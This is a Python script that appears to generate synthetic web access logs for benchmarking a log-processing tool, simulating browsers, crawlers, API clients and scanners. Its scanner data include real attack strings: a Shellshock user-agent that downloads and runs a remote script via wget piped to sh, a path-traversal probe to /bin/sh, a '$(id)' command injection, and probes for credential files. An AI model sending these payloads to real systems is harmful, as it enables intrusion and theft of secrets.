#!/usr/bin/env python3
"""othergen.py - independent synthetic web access-log generator (Apache/nginx "combined").

A second, independent generator for cross-checking benchmark ratios: written from first
principles without reading logveil's own generator, so its distributions are its own.

    python3 benches/othergen.py --lines N --seed S --out FILE     (FILE "-" = stdout)

Defaults: 1,000,000 lines, seed 7; same seed => byte-identical output. Prints one summary
line to stderr (lines, bytes, distinct clients/targets/referers/agents). Shapes at 1M lines
(pool sizes scale with --lines):
  * `%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"`, "-" for no user/referer/agent
    and for zero bytes (304/204/HEAD); 10 days from 02/Mar/2026 +0100, diurnal (peak 9-17h,
    trough 3-5h, quieter weekend); ordered by response end while %t is the request start,
    so time is non-decreasing apart from a few seconds of jitter.
  * ~80k clients, ~25% IPv6 (full 8-group, "::"-compressed, a few ::ffff:v4); heavy-tailed:
    crawlers and NAT proxies with thousands of lines, most people 1-20 lines in sessions.
  * ~200k distinct targets (pages, news, products, courses, search, API uuids, hashed assets,
    images, 206 media, probes, 200-400 char utm_*/fbclid/gclid URLs), power-law popularity.
  * GET mostly, some POST/HEAD, rare OPTIONS/PUT; HTTP/1.1 mostly, some HTTP/2.0 and 1.0;
    statuses 200/304/404/301/302/206/201/204/403/500/503 with per-type byte sizes.
  * ~30% "-" referers, internal (query stripped), search engines, social: ~15k distinct.
  * ~3,000 agents from browser templates plus crawlers, HTTP tools and scanners.
  * ~0.1% malformed: truncated, binary garbage, '"-" 400', TLS handshakes as \\xHH, ~10 KB
    request lines; a few agents with escaped quotes (\\").
"""
import argparse
import bisect
import datetime as dt
import ipaddress
import random
import sys
import time
import uuid

HOST = "https://www.example-university.edu"
START = dt.datetime(2026, 3, 2)
TZ, DAYS = "+0100", 10
MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
HOUR_WEIGHT = [20, 13, 8, 5, 4, 6, 12, 30, 62, 88, 96, 100, 95, 97, 100, 96, 90, 76, 62, 55, 50, 44, 36, 28]
WEEKEND, MALFORMED_RATE = 0.6, 0.001
HUMAN_CLIENTS_PER_LINE = 0.0860     # people created per line (some tickets stay unused): ~80k clients at 1M
AGENT_POOL = 2950
# session mix (cumulative probabilities): human, NAT proxy, crawler, API script, scanner
P_HUMAN, P_PROXY, P_CRAWLER, P_API = 0.855, 0.880, 0.925, 0.972
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
WORDS = """campus library research student faculty science history physics chemistry biology
music art design energy climate water health medicine robot data network cloud quantum solar
city river forest ocean winter spring summer exam lecture course seminar thesis award grant
alumni sport football concert festival housing visa career job intern startup lab report
event talk poetry film theatre language english german french spanish math logic theory model
system software security privacy ethics law economics market finance policy vote europe
africa asia global local future ancient modern digital green blue smart guide tips best new
free online night park museum garden coffee food vegan bike train bus parking map mobile app
email password login wifi printer results grades calendar deadline""".split()
LANGS = ("en", "en", "de", "fr", "es", "it", "zh", "tr")
SORTS = ("relevance", "date_desc", "date_asc", "price", "-created_at", "name")
CATEGORIES = ("books", "apparel", "software", "lab-equipment", "gifts", "tickets")
DEPTS = ("cs", "math", "phys", "chem", "bio", "econ", "hist", "ling", "law", "med", "arch", "mus")
INTRANET = ("payroll", "timesheets", "rooms", "grades", "wiki", "mail", "handbook")
SECTIONS = """/about/ /about/history/ /admissions/ /admissions/apply/ /admissions/fees/ /research/
/research/labs/ /library/ /library/opening-hours/ /contact/ /campus-map/ /events/ /news/ /products/
/jobs/ /alumni/ /students/ /students/housing/ /students/exams/ /faculty/ /international/
/it-services/ /it-services/wifi/ /imprint/ /privacy/ /accessibility/ /sport/ /login""".split()
PROBES = [("GET", "/wp-login.php", 404), ("POST", "/xmlrpc.php", 404), ("GET", "/.env", 404),
          ("GET", "/.git/config", 403), ("GET", "/server-status", 403), ("GET", "/admin", 301),
          ("GET", "/phpmyadmin/index.php", 404), ("GET", "/wp-admin/setup-config.php", 404),
          ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
          ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400), ("POST", "/boaform/admin/formLogin", 404),
          ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", 404),
          ("GET", "/actuator/env", 404), ("GET", "/.aws/credentials", 404), ("GET", "/HNAP1/", 404),
          ("GET", "/owa/auth/logon.aspx", 404), ("GET", "/.DS_Store", 404), ("GET", "/config.json", 404),
          ("GET", "/wp-includes/wlwmanifest.xml", 404), ("GET", "/?XDEBUG_SESSION_START=phpstorm", 200),
          ("GET", "/robots.txt", 200), ("GET", "/favicon.ico", 200)]
V4_FIRST = (24, 31, 37, 45, 46, 62, 73, 77, 78, 79, 80, 81, 82, 84, 85, 86, 87, 88, 89, 91, 93,
            94, 95, 98, 104, 109, 141, 151, 176, 178, 185, 188, 193, 194, 195, 203, 212, 213, 217)
V6_PREFIXES = ("2001:db8", "2a02:8108", "2003:e2", "2a01:4f8", "2600:1700", "2607:f8b0",
               "2a00:1450", "2804:14c", "2409:8a1e", "2001:16b8", "2a02:908", "2001:638")
DESKTOP_OS = ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64")
FIREFOX_OS = ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10.15", "X11; Linux x86_64",
              "X11; Ubuntu; Linux x86_64", "Windows NT 6.1; Win64; x64")
ANDROID = ("K", "SM-S918B", "SM-A546B", "SM-G991B", "Pixel 7", "Pixel 8 Pro", "Redmi Note 12",
           "moto g54 5G", "CPH2451", "2201116SG", "SM-A155F", "Pixel 6a")
CRAWLERS = [  # (agent, IPv4 /24 it crawls from)
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "66.249.66"),
    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/134.0.6998.165 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "66.249.79"),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "40.77.167"),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "54.36.148"),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "185.191.171"),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "5.255.231"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "20.171.207"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 "
     "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", "17.241.219"),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "20.191.45"),
    ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "220.181.108"),
    ("Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", "136.243.228"),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "69.171.249")]
TOOL_UAS = ("curl/7.68.0", "curl/7.81.0", "curl/8.5.0", "python-requests/2.25.1", "python-requests/2.31.0",
            "python-requests/2.32.3", "Go-http-client/1.1", "Go-http-client/2.0", "Wget/1.21.2",
            "okhttp/4.12.0", "axios/1.6.8", "Apache-HttpClient/4.5.14 (Java/17.0.9)", "python-httpx/0.27.0")
SCANNER_UAS = TOOL_UAS[:9] + ("-", "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
                              "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
                              "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36")
QUOTED_UAS = (r'() { :; }; /bin/bash -c \"wget http://198.51.100.7/x.sh -O- | sh\"',
              r'Mozilla/5.0 (compatible; \"Scanner\"/2.1; +http://198.51.100.9/)')
GOOGLES = ("https://www.google.com/", "https://www.google.de/", "https://www.google.co.uk/", "https://www.google.fr/",
           "https://www.google.com.tr/", "https://www.google.es/", "https://www.google.it/", "https://www.google.nl/")
SOCIAL = ("https://www.facebook.com/", "https://l.facebook.com/", "https://m.facebook.com/", "https://www.linkedin.com/",
          "https://www.instagram.com/", "https://x.com/", "android-app://com.google.android.gm/",
          "https://teams.microsoft.com/", "https://duckduckgo.com/", "https://search.yahoo.com/", "https://www.ecosia.org/")


def skew(r, n, a):
    """Power-law index in [0, n): P(index < k) = (k/n)**(1/a), so small indices are popular."""
    return int(n * r.random() ** a)


def words(r, lo, hi, sep):
    return sep.join(r.choice(WORDS) for _ in range(r.randint(lo, hi)))


def token(r, n):
    return "".join(r.choices(ALNUM, k=n))


def browser_agent(r):
    """One realistic browser User-Agent string, families weighted roughly by market share."""
    def chrome():
        m = r.randint(109, 134)
        return f"{m}.0.0.0" if r.random() < 0.5 else f"{m}.0.{r.randint(5400, 6999)}.{r.randint(1, 220)}"
    x = r.random()
    webkit = "AppleWebKit/537.36 (KHTML, like Gecko)"
    if x < 0.36:
        return f"Mozilla/5.0 ({r.choice(DESKTOP_OS)}) {webkit} Chrome/{chrome()} Safari/537.36"
    if x < 0.44:
        v = chrome()
        edge = f"{v.split('.')[0]}.0.{r.randint(1500, 3200)}.{r.randint(10, 120)}"
        return f"Mozilla/5.0 ({r.choice(DESKTOP_OS[:2])}) {webkit} Chrome/{v} Safari/537.36 Edg/{edge}"
    if x < 0.54:
        v = r.randint(102, 136)
        return f"Mozilla/5.0 ({r.choice(FIREFOX_OS)}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
    if x < 0.61:
        return (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                f"Version/{r.randint(15, 18)}.{r.randint(0, 6)} Safari/605.1.15")
    if x < 0.79:
        v = f"{r.randint(15, 18)}_{r.randint(0, 7)}" + (f"_{r.randint(1, 3)}" if r.random() < 0.4 else "")
        dev = "iPhone; CPU iPhone OS" if r.random() < 0.85 else "iPad; CPU OS"
        return (f"Mozilla/5.0 ({dev} {v} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                f"Version/{v.replace('_', '.')} Mobile/15E148 Safari/604.1")
    extra = f"SamsungBrowser/{r.randint(20, 27)}.0 " if x > 0.97 else ""
    return (f"Mozilla/5.0 (Linux; Android {r.randint(9, 15)}; {r.choice(ANDROID)}) {webkit} "
            f"{extra}Chrome/{chrome()} Mobile Safari/537.36")


class Gen:
    def __init__(self, r, n):
        self.r, s = r, max(n / 1_000_000, 0.01)
        self.ips, self.targets, self.refs, self.uas = set(), set(), set(), set()
        hours = DAYS * 24
        w = [HOUR_WEIGHT[h % 24] * (WEEKEND if (h // 24) % 7 in (5, 6) else 1) * r.uniform(0.9, 1.1) for h in range(hours)]
        cum = [sum(w[:h + 1]) for h in range(hours)]
        self.quotas = [round(n * c / cum[-1]) - round(n * (c - x) / cum[-1]) for c, x in zip(cum, w)]
        days = [START + dt.timedelta(hours=h) for h in range(hours + 2)]
        self.stamp = [f"[{d.day:02d}/{MONTHS[d.month - 1]}/{d.year}:{d.hour:02d}:" for d in days]
        self.mmss = [f"{m:02d}:{x:02d} {TZ}]" for m in range(60) for x in range(60)]
        agents = dict.fromkeys(browser_agent(r) for _ in range(AGENT_POOL * 3))
        self.agents = list(agents)[:AGENT_POOL]
        self.articles = [(f"/news/{'2026/03' if r.random() < 0.6 else f'{r.randint(2023, 2026)}/{r.randint(1, 12):02d}'}"
                          f"/{words(r, 2, 5, '-')}-{1000 + i}", r.randint(18_000, 60_000)) for i in range(int(3000 * s) + 50)]
        self.products = [(f"/product/{p}", r.randint(25_000, 45_000)) for p in r.sample(range(100_000, 1_000_000), int(300_000 * s) + 100)]
        self.courses = [(f"/courses/{d}-{k}/", r.randint(12_000, 22_000)) for d in DEPTS for k in range(100, 500, 5)]
        self.sections = [(p, r.randint(9_000, 40_000)) for p in SECTIONS]
        self.images = [(f"/img/{words(r, 1, 3, '-')}-{r.choice((320, 640, 1280))}.webp", r.randint(4_000, 350_000))
                       for _ in range(int(8000 * s) + 50)]
        self.uuids = [str(uuid.UUID(int=r.getrandbits(128), version=4)) for _ in range(int(80_000 * s) + 50)]
        self.deploys = [[(f"/static/css/main.{r.getrandbits(32):08x}.css", r.randint(40_000, 90_000)),
                         (f"/static/js/app.{r.getrandbits(48):012x}.js", r.randint(150_000, 400_000)),
                         (f"/static/js/vendor.{r.getrandbits(48):012x}.js", r.randint(300_000, 900_000))] for _ in range(3)]
        self.tco = [f"https://t.co/{token(r, 10)}" for _ in range(int(1500 * s) + 20)]
        self.reddit = [f"https://www.reddit.com/r/{r.choice(WORDS)}/comments/{token(r, 6).lower()}/{words(r, 2, 5, '_')}/"
                       for _ in range(int(600 * s) + 10)]
        self.wiki = [f"https://en.wikipedia.org/wiki/{words(r, 1, 2, '_').capitalize()}" for _ in range(int(400 * s) + 10)]
        self.used_ips = set()
        self.crawlers = [(f"{p}.{r.randint(1, 254)}", ua, "HTTP/1.1") for ua, p in (CRAWLERS[skew(r, len(CRAWLERS), 1.6)] for _ in range(40))]
        self.proxies = [(self.new_ip(False), "HTTP/1.1") for _ in range(15)]
        self.apis = [(self.new_ip(r.random() < 0.2), r.choice(TOOL_UAS), "HTTP/1.1", "-") if r.random() < 0.6 else  # scripts
                     (self.new_ip(r.random() < 0.25), self.agents[skew(r, AGENT_POOL, 3)], "HTTP/2.0",  # the web app
                      f"{HOST}/app/{r.choice(('items', 'dashboard', 'search', 'items/edit'))}") for _ in range(int(300 * s) + 10)]
        self.scanners = [(self.new_ip(r.random() < 0.1), r.choice(SCANNER_UAS), "HTTP/1.0" if r.random() < 0.4 else "HTTP/1.1")
                         for _ in range(int(1500 * s) + 20)]
        # the two rarest scanners send agents with quotes, which Apache writes escaped as \"
        self.scanners[-2:] = [(ip, ua, proto) for (ip, _, proto), ua in zip(self.scanners[-2:], QUOTED_UAS)]
        self.humans, self.visits, self.tickets = [], [], []
        self.add_humans(int(n * HUMAN_CLIENTS_PER_LINE) + 10)

    def new_ip(self, v6):
        r = self.r
        while True:
            if v6 and r.random() < 0.04:
                ip = f"::ffff:{r.choice(V4_FIRST)}.{r.randrange(256)}.{r.randrange(256)}.{r.randint(1, 254)}"
            elif v6:
                hi, lo = (int(x, 16) for x in V6_PREFIXES[skew(r, len(V6_PREFIXES), 1.5)].split(":"))
                pre = (hi << 112) | (lo << 96) | (r.getrandbits(16) << 80)
                x = r.random()  # privacy address (8 groups) / sparse static / documentation-style "::"
                low = r.getrandbits(80) if x < 0.6 else r.getrandbits(16) if x < 0.8 else r.getrandbits(48)
                ip = ipaddress.IPv6Address(pre | low).compressed
            elif r.random() < 0.12:  # the university's own network
                ip = f"141.20.{r.randrange(256)}.{r.randint(1, 254)}"
            else:
                ip = f"{r.choice(V4_FIRST)}.{r.randrange(256)}.{r.randrange(256)}.{r.randint(1, 254)}"
            if ip not in self.used_ips:
                self.used_ips.add(ip)
                return ip

    def add_humans(self, k):
        """Create k people; each gets a heavy-tailed number of session tickets (P(>=m) = m**-2.8)."""
        r, new = self.r, []
        for _ in range(k):
            i = len(self.humans)
            user = f"{r.choice('abcdefghjklmnprst')}{r.choice(WORDS)}{r.randint(1, 99)}" if r.random() < 0.03 else "-"
            proto = "HTTP/2.0" if r.random() < 0.25 else "HTTP/1.1"
            self.humans.append((self.new_ip(r.random() < 0.25), self.agents[skew(r, AGENT_POOL, 3)], proto, user, r.random() < 0.05))
            self.visits.append(0)
            new += [i] * min(60, int(r.paretovariate(2.8)))
        r.shuffle(new)
        self.tickets = new + self.tickets

    def line(self, t, dur, ip, ua, proto, method, target, status, size, ref, user="-"):
        """One event: (sort key = response end, log line stamped with the request start)."""
        if self.r.random() < MALFORMED_RATE:
            return t + dur, self.malformed(t, ip, ua)
        sec = int(t)
        self.ips.add(ip); self.targets.add(target); self.refs.add(ref); self.uas.add(ua)
        return (t + dur, f'{ip} - {user} {self.stamp[sec // 3600]}{self.mmss[sec % 3600]} "{method} {target} {proto}" '
                         f'{status} {size} "{ref}" "{ua}"\n')

    def malformed(self, t, ip, ua):
        r, sec = self.r, int(t)
        head = f"{ip} - - {self.stamp[sec // 3600]}{self.mmss[sec % 3600]} "
        x = r.random()
        if x < 0.35:  # writer killed mid-line
            full = f'{head}"GET {self.human_page()[0]} HTTP/1.1" 200 {r.randint(900, 90_000)} "-" "{ua}"'
            return full[:r.randint(10, len(full) - 5)] + "\n"
        if x < 0.5:  # binary garbage / NUL-filled block after a crash
            junk = "".join(chr(r.choice(range(11, 256)) if r.random() < 0.9 else 0) for _ in range(r.randint(20, 300)))
            return ("\0" * r.randint(0, 200)) + junk + "\n"
        if x < 0.75:
            return head + '"-" 400 - "-" "-"\n'
        if x < 0.9:  # TLS ClientHello sent to the plain-HTTP port
            hello = [0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03] + [r.getrandbits(8) for _ in range(24)]
            return head + '"' + "".join(f"\\x{b:02x}" for b in hello) + '" 400 226 "-" "-"\n'
        q = "&".join(f"{token(r, 6)}={token(r, 40)}" for _ in range(210))
        return f'{head}"GET /search?{q} HTTP/1.1" 414 248 "-" "{ua}"\n'

    def dur(self, mean):
        d = self.r.expovariate(1 / mean)
        return d + self.r.uniform(1, 6) if self.r.random() < 0.01 else d

    def entry_referer(self):
        r, x = self.r, self.r.random()
        if x < 0.40:
            return "-"
        if x < 0.64:
            return GOOGLES[skew(r, len(GOOGLES), 2)]
        if x < 0.74:
            return "https://www.bing.com/" if r.random() < 0.6 else f"https://www.bing.com/search?q={words(r, 1, 4, '+')}&form=QBLH"
        if x < 0.82:
            return self.tco[skew(r, len(self.tco), 1.5)]
        if x < 0.91:
            return SOCIAL[skew(r, len(SOCIAL), 1.5)]
        return self.reddit[skew(r, len(self.reddit), 1.5)] if x < 0.95 else self.wiki[skew(r, len(self.wiki), 1.5)]

    def human_page(self):
        r, x = self.r, self.r.random()
        if x < 0.13:
            return "/", 31_522
        if x < 0.38:
            return self.articles[skew(r, len(self.articles), 2.5)]
        if x < 0.58:
            return self.products[skew(r, len(self.products) // 60, 2.5)]
        if x < 0.66:
            return self.sections[skew(r, len(self.sections), 1.5)]
        if x < 0.82:
            extra = f"&page={r.randint(2, 5)}" if r.random() < 0.15 else ""
            return f"/search?q={words(r, 1, 4, '+')}&lang={r.choice(LANGS)}{extra}", r.randint(9_000, 40_000)
        if x < 0.86:
            return self.listing(skew(r, 40, 2) + 1)
        return self.courses[skew(r, len(self.courses), 2)]

    def listing(self, page):
        r = self.r
        if r.random() < 0.5:
            return f"/news/?page={page}", 28_000 + page
        return f"/products/?category={r.choice(CATEGORIES)}&page={page}&sort={r.choice(SORTS)}", 34_000 + page

    def calendar(self):
        """Event-calendar pages: an endless link space that crawlers wander into."""
        r, day = self.r, START + dt.timedelta(days=self.r.randint(-4000, 4000))
        return f"/events/?date={day:%Y-%m-%d}&view={self.r.choice(('day', 'week', 'month'))}", r.randint(15_000, 26_000)

    def tracked(self, target):
        """Append campaign parameters, padding with a click id to a 200-400 char target."""
        r = self.r
        q = [f"utm_source={r.choice(('facebook', 'newsletter', 'twitter', 'google', 'instagram', 'linkedin'))}",
             f"utm_medium={r.choice(('social', 'email', 'cpc', 'referral'))}", f"utm_campaign={words(r, 1, 3, '_')}_2026"]
        if r.random() < 0.5:
            q.append(f"utm_content={words(r, 1, 2, '-')}-{r.randint(1, 9)}")
        base = target + ("&" if "?" in target else "?") + "&".join(q)
        key, pre = r.choice((("fbclid", "IwAR"), ("gclid", "Cj0KCQjw"), ("msclkid", "")))
        return f"{base}&{key}={pre}{token(r, max(16, r.randint(200, 400) - len(base) - len(key) - len(pre) - 2))}"

    def assets(self, t, cold):
        r, out = self.r, []
        css, app, vendor = self.deploys[min(int(t // 86400) // 4, 2)]  # deploys on days 4 and 8
        if cold or r.random() < 0.2:
            out += [(*css, None), (*app, None), (*vendor, None), ("/static/fonts/inter-var.woff2", 48_120, HOST + css[0])]
        if cold:
            out.append(("/favicon.ico", 15_086, None))
        for _ in range(skew(r, 5, 2)):
            out.append((*self.images[skew(r, len(self.images), 2)], None))
        return out

    def human(self, t, c, returning):
        r = self.r
        ip, ua, proto, user, noref = c
        ev, ref = [], "-" if noref else self.entry_referer()
        for i in range(1 + min(int(r.expovariate(1.2)), 9)):
            (target, size), method, status, u = self.human_page(), "GET", 200, "-"
            if user != "-" and r.random() < 0.3:
                target, size, u = f"/intranet/{r.choice(INTRANET)}/", 14_200, user
            elif i == 0 and ref != "-" and r.random() < 0.5:
                target = self.tracked(target)
            elif r.random() < 0.03:
                method, target, status, size = r.choice((("POST", "/login", 302, 312), ("POST", "/contact/", 200, 8_411),
                                                         ("POST", target.split("?")[0] + "/comment", 302, 290)))
            elif r.random() < 0.004:
                method, target, status, size = "OPTIONS", f"/api/v2/items/{r.choice(self.uuids)}", 204, "-"
            x = r.random()
            if x < 0.03 and status == 200:
                status, size = ((404, 196) if x < 0.012 else (500, 531) if x < 0.0135 else
                                (503, 299) if x < 0.0142 else (301, 230 + len(target)))
            ev.append(self.line(t, self.dur(0.15), ip, ua, proto, method, target, status, size, ref, u))
            here = "-" if noref else HOST + target.split("?", 1)[0]
            at = t
            if status == 200 and method == "GET":
                for a, asize, aref in self.assets(t, i == 0 and not returning):
                    at += r.uniform(0.02, 0.6)
                    st, sz = (304, "-") if returning and r.random() < 0.7 else (404, 196) if r.random() < 0.003 else (200, asize)
                    ev.append(self.line(at, self.dur(0.04), ip, ua, proto, "GET", a, st, sz, "-" if noref else aref or here))
                if r.random() < 0.015:  # lecture video, fetched in ranges
                    video = f"/media/lectures/{words(r, 2, 3, '-')}.mp4"
                    for _ in range(r.randint(1, 4)):
                        at += r.uniform(1, 20)
                        ev.append(self.line(at, self.dur(0.5), ip, ua, proto, "GET", video, 206, r.randint(65_536, 2_097_152), here))
            ref = here
            t = at + 2 + r.expovariate(1 / 30)
        return ev

    def crawler(self, t, c):
        r, (ip, ua, proto), ev = self.r, c, []
        if r.random() < 0.15:
            ev.append(self.line(t, 0.01, ip, ua, proto, "GET", "/robots.txt", 200, 412, "-"))
        for _ in range(3 + int(r.expovariate(1 / 30))):
            t += r.uniform(0.3, 4)
            x = r.random()
            target, size = (r.choice(self.products) if x < 0.48 else r.choice(self.articles) if x < 0.55 else
                            self.listing(r.randint(1, 400)) if x < 0.67 else self.calendar() if x < 0.79 else
                            r.choice(self.courses) if x < 0.84 else r.choice(self.images) if x < 0.96 else
                            (f"/sitemap-{r.randint(1, 40)}.xml", 48_000) if x < 0.99 else ("/", 31_522))
            method, status = ("HEAD", 200) if r.random() < 0.03 else ("GET", 200)
            x = r.random()
            status = 304 if x < 0.1 else 404 if x < 0.11 else 301 if x < 0.13 else status
            size = 196 if status == 404 else 230 + len(target) if status == 301 else "-" if status == 304 or method == "HEAD" else size
            ev.append(self.line(t, self.dur(0.2), ip, ua, proto, method, target, status, size, "-"))
        return ev

    def api(self, t, c):
        r, (ip, ua, proto, ref), ev = self.r, c, []
        for _ in range(1 + int(r.expovariate(1 / 7))):
            t += r.uniform(0.05, 3)
            uid, x = self.uuids[skew(r, len(self.uuids), 1.3)], r.random()
            if x < 0.8:
                q = f"?page={skew(r, 50, 2) + 1}&sort={r.choice(SORTS)}" if r.random() < 0.85 else ""
                method, target, status, size = "GET", f"/api/v2/items/{uid}{q}", 200, r.randint(400, 9_000)
                y = r.random()
                status, size = (404, 98) if y < 0.03 else (500, 146) if y < 0.034 else (status, size)
            elif x < 0.9:
                method, target, status, size = "GET", f"/api/v2/items?page={r.randint(1, 300)}&limit={r.choice((20, 50, 100))}&sort={r.choice(SORTS)}", 200, r.randint(5_000, 60_000)
            elif x < 0.96:
                method, target, status, size = "POST", "/api/v2/items", 201, r.randint(300, 900)
            elif x < 0.985:
                method, target, status, size = ("PUT", f"/api/v2/items/{uid}") + ((200, r.randint(300, 900)) if r.random() < 0.5 else (204, "-"))
            else:
                method, target, status, size = "OPTIONS", f"/api/v2/items/{uid}", 204, "-"
            ev.append(self.line(t, self.dur(0.08), ip, ua, proto, method, target, status, size, ref))
        return ev

    def scanner(self, t, c):
        r, (ip, ua, proto), ev = self.r, c, []
        for _ in range(min(80, 1 + int(r.expovariate(1 / 8)))):
            t += r.uniform(0.05, 1.2)
            x = r.random()
            if x < 0.6:
                method, target, status = r.choice(PROBES)
            elif x < 0.8:
                method, target, status = "GET", f"/wp-content/plugins/{r.choice(WORDS)}-{r.choice(WORDS)}/readme.txt", 404
            else:
                method, target, status = "GET", f"/{r.choice(WORDS)}{r.choice(('.php', '.bak', '.zip', '.sql', '/', '.tar.gz'))}", 404
            size = {200: 412, 301: 233, 400: 226, 403: 199}.get(status, 196)
            ref = f"http://{HOST[8:]}/" if r.random() < 0.05 else "-"
            ev.append(self.line(t, self.dur(0.02), ip, ua, proto, method, target, status, size, ref))
        return ev

    def session(self, t):
        r, x = self.r, self.r.random()
        if x < P_HUMAN:
            if not self.tickets:
                self.add_humans(max(10, len(self.humans) // 20))
            i = self.tickets.pop()
            self.visits[i] += 1
            return self.human(t, self.humans[i], self.visits[i] > 1)
        if x < P_PROXY:  # many people behind one corporate / campus NAT address
            ip, proto = self.proxies[skew(r, len(self.proxies), 1.5)]
            return self.human(t, (ip, self.agents[skew(r, AGENT_POOL, 3)], proto, "-", False), r.random() < 0.5)
        if x < P_CRAWLER:
            return self.crawler(t, self.crawlers[skew(r, len(self.crawlers), 2)])
        if x < P_API:
            return self.api(t, self.apis[skew(r, len(self.apis), 2)])
        return self.scanner(t, self.scanners[skew(r, len(self.scanners), 1.5)])

    def hours(self):
        """Yield each hour's lines sorted by response end; later-ending events carry over."""
        pending = []
        for h, quota in enumerate(self.quotas):
            start, batch, made = h * 3600.0, pending, 0
            while made < quota:
                ev = self.session(start + self.r.random() * 3600)[:quota - made]
                batch += ev
                made += len(ev)
            batch.sort()
            cut = bisect.bisect_left(batch, (start + 3600,))
            yield [s for _, s in batch[:cut]]
            pending = batch[cut:]
        yield [s for _, s in sorted(pending)]


def main():
    ap = argparse.ArgumentParser(description="Independent synthetic combined-format access log generator.")
    ap.add_argument("--lines", type=int, default=1_000_000)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--out", default="-", help='output file, "-" for stdout')
    a = ap.parse_args()
    t0 = time.time()
    g = Gen(random.Random(a.seed), a.lines)
    fh = sys.stdout.buffer if a.out == "-" else open(a.out, "wb")
    nlines = nbytes = 0
    for lines in g.hours():  # one write per simulated hour (~1 MB at 1M lines)
        data = "".join(lines).encode("latin-1")  # latin-1: the garbage lines carry raw bytes
        fh.write(data)
        nlines, nbytes = nlines + len(lines), nbytes + len(data)
    fh.flush()
    if fh is not sys.stdout.buffer:
        fh.close()
    print(f"othergen: lines={nlines} bytes={nbytes} clients={len(g.ips)} targets={len(g.targets)} "
          f"referers={len(g.refs)} agents={len(g.uas)} seed={a.seed} secs={time.time() - t0:.1f}", file=sys.stderr)


if __name__ == "__main__":
    main()
